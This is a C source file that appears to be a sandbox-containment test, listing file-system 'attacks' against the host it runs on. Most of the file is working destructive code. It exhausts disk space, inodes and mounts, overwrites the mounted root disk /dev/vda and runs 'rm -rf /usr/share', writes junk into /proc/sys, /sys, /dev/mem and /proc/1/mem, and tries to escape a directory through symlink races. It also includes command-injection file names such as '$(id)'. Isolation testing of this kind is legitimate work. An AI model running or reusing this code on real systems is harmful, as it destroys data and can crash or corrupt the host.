/* File systems, the host's folder and the disk under the root. */
#include "hostile.h"
#include <dirent.h>
#include <linux/loop.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/xattr.h>

static const char *place(void) {
  const char *folder = getenv("PLACE");
  if (!folder) folder = "/tmp";
  if (chdir(folder)) exit(3);
  return folder;
}

static int deep_tree(void) {
  place();
  char name[256];
  memset(name, 'd', sizeof name);
  name[255] = 0;
  for (long n = 0; n < 20000; n++) {
    if (mkdir(name, 0700) || chdir(name)) return refused("mkdir", n);
  }
  char path[8192];
  return getcwd(path, sizeof path) ? 0 : refused("getcwd", 20000);
}

static int sparse(void) {
  place();
  int fd = open("sparse", O_CREAT | O_RDWR, 0600);
  static const off_t SIZES[] = {1LL << 31, 1LL << 32, 1LL << 40, 1LL << 53, 1LL << 62, INT64_MAX};
  for (size_t i = 0; i < sizeof SIZES / sizeof *SIZES; i++) {
    ftruncate(fd, SIZES[i]);
    pwrite(fd, "x", 1, SIZES[i] - 2);
    char *map = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (SIZES[i] - 4096) & ~4095LL);
    if (map != MAP_FAILED) munmap(map, 4096);
    lseek(fd, SIZES[i] / 2, SEEK_DATA);
  }
  ftruncate(fd, 0);
  return 0;
}

static int fill(void) {
  place();
  static char block[1 << 20];
  memset(block, 'f', sizeof block);
  int fd = open("fill", O_CREAT | O_WRONLY, 0600);
  for (long n = 0;; n++)
    if (write(fd, block, sizeof block) <= 0) return refused("write", n);
}

static int inodes(void) {
  place();
  for (long n = 0;; n++) {
    char name[32];
    snprintf(name, sizeof name, "i%ld", n);
    int fd = open(name, O_CREAT | O_WRONLY, 0600);
    if (fd < 0) return refused("create", n);
    close(fd);
  }
}

static int names(void) {
  place();
  static const char *const NAMES[] = {
      "__proto__", "constructor", "toString", "hasOwnProperty", "..\\..\\x", "a:b", "CON", "nul", "x ", "x.", "\xff\xfe", "\xc3\x28",
      "new\nline", "esc\033[31m", "%s%n", "$(id)", "`id`", "; id", "-rf", "\xe2\x80\xaegpj", "A", "a", "\xc3\x85", "A\xcc\x8a",
  };
  int made = 0;
  for (size_t i = 0; i < sizeof NAMES / sizeof *NAMES; i++) {
    int fd = open(NAMES[i], O_CREAT | O_RDWR, 0600);
    if (fd < 0) continue;
    made += write(fd, NAMES[i], strlen(NAMES[i])) > 0;
    fsetxattr(fd, "user.__proto__", "x", 1, 0);
    close(fd);
  }
  for (size_t i = 0; i < sizeof NAMES / sizeof *NAMES; i++) {
    char text[64] = "";
    int fd = open(NAMES[i], O_RDONLY);
    if (fd < 0) continue;
    ssize_t length = read(fd, text, sizeof text - 1);
    close(fd);
    (void)length;
  }
  printf("%d\n", made);
  return 0;
}

static int links(void) {
  place();
  close(open("l", O_CREAT | O_WRONLY, 0600));
  long made = 0;
  for (; made < 200000; made++) {
    char name[32];
    snprintf(name, sizeof name, "l%ld", made);
    if (link("l", name)) break;
  }
  symlink("loop2", "loop1");
  symlink("loop1", "loop2");
  symlink(".", "dot");
  static char path[4090];
  for (size_t i = 0; i + 4 < sizeof path; i += 4) memcpy(path + i, "dot/", 4);
  open("loop1", O_RDONLY);
  open(path, O_RDONLY);
  return refused("link", made);
}

static int attributes(void) {
  place();
  static char value[65536];
  for (long n = 0;; n++) {
    char name[32];
    snprintf(name, sizeof name, "f%ld", n);
    int fd = open(name, O_CREAT | O_WRONLY, 0600);
    if (fd < 0) return refused("create", n);
    for (int i = 0;; i++) {
      snprintf(name, sizeof name, "user.%d", i);
      if (fsetxattr(fd, name, value, 4000, 0) && fsetxattr(fd, name, value, 200, 0)) break;
    }
    if (errno == ENOMEM || n > 3000) return refused("setxattr", n);
    close(fd);
  }
}

static int mounts(void) {
  place();
  mkdir("m", 0700);
  for (long n = 0; n < 30000; n++)
    if (mount("/", "m", 0, MS_BIND | MS_REC, 0) && mount("none", "m", "tmpfs", 0, 0)) return refused("mount", n);
  return 0;
}

static int overlays(void) {
  place();
  char lower[64] = "/bin";
  for (int n = 0; n < 100; n++) {
    char upper[32], work[32], merged[32], options[256];
    snprintf(upper, sizeof upper, "u%d", n);
    snprintf(work, sizeof work, "w%d", n);
    snprintf(merged, sizeof merged, "o%d", n);
    mkdir(upper, 0700);
    mkdir(work, 0700);
    mkdir(merged, 0700);
    snprintf(options, sizeof options, "lowerdir=%s,upperdir=%s,workdir=%s", lower, upper, work);
    if (mount("overlay", merged, "overlay", 0, options)) return refused("overlay", n);
    snprintf(lower, sizeof lower, "%s", merged);
  }
  return 0;
}

static int loops(void) {
  int control = open("/dev/loop-control", O_RDWR);
  for (long n = 0; n < 100; n++) {
    int number = ioctl(control, LOOP_CTL_GET_FREE);
    char name[32];
    snprintf(name, sizeof name, "/dev/loop%d", number);
    int loop = open(name, O_RDWR);
    if (loop < 0 || ioctl(loop, LOOP_SET_FD, loop)) return refused("loop on itself", n);
  }
  return 0;
}

/* The disk of the root is written over while it is mounted. */
static int own_disk(void) {
  int fd = open("/dev/vda", O_RDWR);
  if (fd < 0) return refused("vda", 0);
  unsigned seed = 5;
  for (int n = 0; n < 4000; n++) {
    unsigned char bytes[64];
    for (size_t i = 0; i < sizeof bytes; i++) bytes[i] = (unsigned char)((seed = seed * 1103515245 + 12345) >> 16);
    pwrite(fd, bytes, sizeof bytes, ((off_t)(seed >> 3) * 64) % (16 << 20));
  }
  fsync(fd);
  int drop = open("/proc/sys/vm/drop_caches", O_WRONLY);
  if (drop >= 0) (void)!write(drop, "3", 1);
  (void)!system("find / -xdev > /dev/null 2>&1; cat /bin/* > /dev/null 2>&1; touch /x; rm -rf /usr/share > /dev/null 2>&1");
  return 0;
}

static int proc_writer(const char *folder, int depth) {
  DIR *directory = opendir(folder);
  if (!directory || depth > 6) return 0;
  for (struct dirent *entry; (entry = readdir(directory)) != 0;) {
    char path[1024];
    if (entry->d_name[0] == '.' || strcmp(entry->d_name, "sysrq-trigger") == 0 || strcmp(entry->d_name, "kmsg") == 0) continue;
    if (snprintf(path, sizeof path, "%s/%s", folder, entry->d_name) >= (int)sizeof path) continue;
    if (entry->d_type == DT_DIR) {
      proc_writer(path, depth + 1);
      continue;
    }
    if (entry->d_type != DT_REG) continue;
    static const char *const VALUES[] = {"-1", "18446744073709551616", "x", "", "0", "1 2 3 4 5 6 7 8 9\n"};
    for (size_t i = 0; i < sizeof VALUES / sizeof *VALUES; i++) {
      int fd = open(path, O_RDWR | O_NONBLOCK);
      if (fd < 0) fd = open(path, O_WRONLY | O_NONBLOCK);
      if (fd < 0) break;
      (void)!write(fd, VALUES[i], strlen(VALUES[i]));
      char text[256];
      (void)!pread(fd, text, sizeof text, INT64_MAX - 100);
      close(fd);
    }
  }
  closedir(directory);
  return 0;
}

static int settings(void) { return proc_writer("/proc/sys", 0) | proc_writer("/sys", 0) | proc_writer("/proc/self", 0); }

static int devices(void) {
  static const char *const PATHS[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/proc/1/mem", "/dev/vda"};
  for (size_t i = 0; i < sizeof PATHS / sizeof *PATHS; i++) {
    int fd = open(PATHS[i], O_RDWR);
    if (fd < 0) continue;
    for (int shift = 0; shift < 63; shift++) {
      uint64_t word = 0x4141414141414141;
      (void)!pread(fd, &word, 8, 1LL << shift);
      if (strcmp(PATHS[i], "/dev/vda") != 0) (void)!pwrite(fd, &word, 8, 1LL << shift);
    }
    close(fd);
  }
  for (int number = 0; number < 1 << 16; number++) {
    if (mknod("/tmp/device", S_IFBLK >> (number & 1 ? 0 : 1) | 0600, (dev_t)number)) continue;
    int fd = open("/tmp/device", O_RDONLY | O_NONBLOCK);
    if (fd >= 0) close(fd);
    unlink("/tmp/device");
    if (number > 4096) number += 97;
  }
  return 0;
}

/* Up, and through links that change while they are followed. */
static int escape(void) {
  place();
  char path[4096] = "";
  for (int i = 0; i < 200; i++) strcat(path, "../");
  strcat(path, "etc/hostname");
  symlink(path, "up");
  symlink("/etc/hostname", "absolute");
  symlink("a/../../../../../../etc", "indirect");
  mkdir("a", 0700);
  pid_t child = fork();
  if (child == 0)
    for (;;) {
      unlink("race");
      symlink("../../../../../../etc", "race");
      unlink("race");
      mkdir("race", 0700);
      rmdir("race");
    }
  for (long n = 0; n < 3000; n++) {
    int fd = open(n & 1 ? "race/hostname" : "up", n & 2 ? O_RDONLY : O_WRONLY | O_CREAT, 0600);
    char text[64] = "";
    if (fd >= 0) {
      if (n & 2) (void)!read(fd, text, sizeof text - 1);
      close(fd);
    }
  }
  kill(child, SIGKILL);
  mkfifo("fifo", 0600);
  mknod("disk", S_IFBLK | 0600, 0x800);
  int fd = open("disk", O_RDONLY | O_NONBLOCK);
  if (fd >= 0) close(fd);
  fd = open("fifo", O_RDONLY | O_NONBLOCK);
  if (fd >= 0) close(fd);
  rename("..", "up2");
  rename(".", "../../x");
  link("up", "../hard");
  return 0;
}

static const struct attack attacks[] = {
    {"deep", deep_tree}, {"sparse", sparse}, {"fill", fill},         {"inodes", inodes},     {"names", names},
    {"links", links},    {"xattr", attributes}, {"mounts", mounts},  {"overlays", overlays}, {"loops", loops},
    {"own-disk", own_disk}, {"settings", settings}, {"devices", devices}, {"escape", escape},
};
MAIN(attacks)
